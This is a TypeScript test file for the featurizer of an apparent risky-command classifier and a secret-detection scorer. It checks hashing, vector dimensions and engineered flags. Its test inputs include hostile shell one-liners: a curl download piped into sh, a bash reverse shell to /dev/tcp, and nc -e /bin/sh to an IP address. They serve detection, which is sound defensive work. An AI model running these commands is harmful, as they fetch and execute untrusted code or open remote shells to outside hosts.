import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { crc32 as zlibCrc32 } from 'node:zlib';
import {
  CMD_DIM,
  CMD_HASH_DIM,
  SECRET_DIM,
  SECRET_NAME_DIM,
  SECRET_VALUE_DIM,
  commandSparse,
  crc32,
  featurizeCommand,
  featurizeCommandInto,
  featurizeSecret,
  secretSparse,
  type SecretInput,
  type SparseVector,
} from '../../server/src/model/featurize';
import { MODELS, SHIPPED, readJson } from './paths';

interface Golden {
  input: string | SecretInput;
  indices: number[];
  values: number[];
  probs?: number[];
}

function assertSameSparse(actual: SparseVector, expected: SparseVector, what: string): void {
  assert.deepEqual(actual.indices, expected.indices, `${what}: indices`);
  for (let i = 0; i < expected.values.length; i++) {
    assert.ok(Math.abs(actual.values[i] - expected.values[i]) <= 1e-6, `${what}: value at ${expected.indices[i]} is ${actual.values[i]}, golden ${expected.values[i]}`);
  }
}

const E = CMD_HASH_DIM; // first structural flag
const ENG = SECRET_VALUE_DIM + SECRET_NAME_DIM; // first engineered secret feature

describe('featurizer: golden vectors written by the Python training code, with each model\'s own featurizer id', () => {
  for (const name of SHIPPED) {
    const path = join(MODELS, name, 'golden.json');
    it(`${name}: every golden.json vector is reproduced (indices exact, values to 1e-6)`, () => {
      assert.ok(existsSync(path), `${path} is missing`);
      const golden = readJson<Golden[]>(path);
      assert.ok(golden.length >= 50, `golden.json holds ${golden.length} vectors, the spec asks for at least 50`);
      for (const [k, g] of golden.entries()) {
        const featurizer = readJson<{ featurizer: string }>(join(MODELS, name, 'model.json')).featurizer;
        const actual = name === 'cmd-risk' ? commandSparse(g.input as string) : secretSparse(g.input as SecretInput, featurizer);
        assertSameSparse(actual, g, `${name} golden #${k} ${JSON.stringify(g.input).slice(0, 80)}`);
      }
    });
  }
});

describe('featurizer drydock-hash-v2: properties', () => {
  it('CRC-32 of the UTF-8 bytes equals zlib.crc32, including non-ASCII and astral code points', () => {
    for (const s of ['', 'c3:\u0002ls', 'w:apt-get', 'b:curl -fssl', 'é中😀', 'v4:AKIA', '\u0000\u007f\u0080\u07ff\u0800\uffff']) {
      assert.equal(crc32(s), zlibCrc32(Buffer.from(s, 'utf8')), JSON.stringify(s));
    }
    // A lone surrogate hashes as U+FFFD, as TextEncoder encodes it.
    assert.equal(crc32('a\ud800b'), zlibCrc32(Buffer.from('a\ufffdb', 'utf8')));
  });

  it('cmd-risk: 4112 dimensions, hashed block L2-normalised, flags on the lower-cased text', () => {
    const v = featurizeCommand('CURL -fsSL http://10.1.2.3:8080/x.sh | SH');
    assert.equal(v.length, CMD_DIM);
    let norm = 0;
    for (let i = 0; i < CMD_HASH_DIM; i++) norm += v[i] * v[i];
    assert.ok(Math.abs(Math.sqrt(norm) - 1) < 1e-5);
    const flags = [...v.subarray(E)].map((x, i) => (x ? i : -1)).filter((i) => i >= 0);
    assert.deepEqual(flags, [0, 2, 7]); // pipe into a shell, URL to an IP literal, downloader
  });

  it('cmd-risk: digit runs collapse, so ports and IPs do not change the hashed block', () => {
    assert.deepEqual(commandSparse('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), commandSparse('bash -i >& /dev/tcp/192.168.77.254/9 0>&1'));
  });

  it('cmd-risk: only the first 400 code points count', () => {
    const head = 'echo '.padEnd(400, 'a');
    assert.deepEqual(commandSparse(`${head}; curl x | sh`), commandSparse(head));
    const astral = '😀'.repeat(400);
    assert.deepEqual(commandSparse(`${astral}b`), commandSparse(astral));
  });

  it('cmd-risk: writing into a shared batch buffer gives the same rows as one at a time', () => {
    const texts = ['apt-get update', 'nc -e /bin/sh 1.2.3.4 9', ''];
    const batch = new Float32Array(texts.length * CMD_DIM);
    texts.forEach((t, i) => featurizeCommandInto(t, batch, i * CMD_DIM));
    texts.forEach((t, i) => assert.deepEqual(batch.subarray(i * CMD_DIM, (i + 1) * CMD_DIM), featurizeCommand(t)));
  });

  it('secret-scorer: 1344 dimensions, engineered features as specified', () => {
    const v = featurizeSecret({ value: 'ghp_0123456789abcdefABCDEF0123456789abcd', name: 'githubToken', context: 'k8s-env' });
    assert.equal(v.length, SECRET_DIM);
    assert.equal(v[ENG + 14], 1); // known token prefix
    assert.equal(v[ENG + 19], 1); // name says token
    assert.equal(v[ENG + 20 + 2], 1); // context k8s-env
    assert.equal(v[ENG + 6], 0);
    const placeholder = featurizeSecret({ value: '${DB_PASSWORD}', name: 'DB_PASSWORD', context: 'dockerfile-env' });
    assert.equal(placeholder[ENG + 6], 1); // interpolation
    assert.equal(placeholder[ENG + 20], 1);
    const version = featurizeSecret({ value: 'v1.2.3-rc.1', name: 'VERSION', context: 'dockerfile-arg' });
    assert.equal(version[ENG + 11], 1);
    assert.equal(version[ENG + 19], 0);
    const empty = featurizeSecret({ value: '', name: '', context: 'other' });
    assert.equal(empty[ENG + 15], 0); // an empty value is not "one character class"
    assert.equal(empty[ENG + 26], 1);
  });

  it('secret-scorer v2: slot 27 says the name\'s last word names an ordinary kind of value; v1 never sets it', () => {
    const kind = (name: string, featurizer?: string) => featurizeSecret({ value: 'ab12', name, context: 'dockerfile-env' }, featurizer)[ENG + 27];
    for (const name of ['PYTHON_SHA256', 'checksum', 'imageDigest', 'APP_VERSION', 'TENANT_ID', 'DB_PASSWORD_FILE', 'redisHost', 'VCS_REF', 'GIT_REVISION']) assert.equal(kind(name), 1, name);
    for (const name of ['DB_PASSWORD', 'SHA256_TOKEN', 'apiKey', 'IDENTITY', '', '___']) assert.equal(kind(name), 0, name);
    assert.equal(kind('PYTHON_SHA256', 'drydock-hash-v1'), 0);
    const v1 = featurizeSecret({ value: 'x', name: 'GIT_COMMIT', context: 'other' }, 'drydock-hash-v1');
    const v2 = featurizeSecret({ value: 'x', name: 'GIT_COMMIT', context: 'other' });
    v2[ENG + 27] = 0;
    assert.deepEqual(v1, v2);
  });

  it('secret-scorer: camelCase and separators split the name the same way', () => {
    const camel = secretSparse({ value: 'x', name: 'dbPassword', context: 'other' });
    const snake = secretSparse({ value: 'x', name: 'DB_PASSWORD', context: 'other' });
    assert.deepEqual(camel, snake);
  });
});
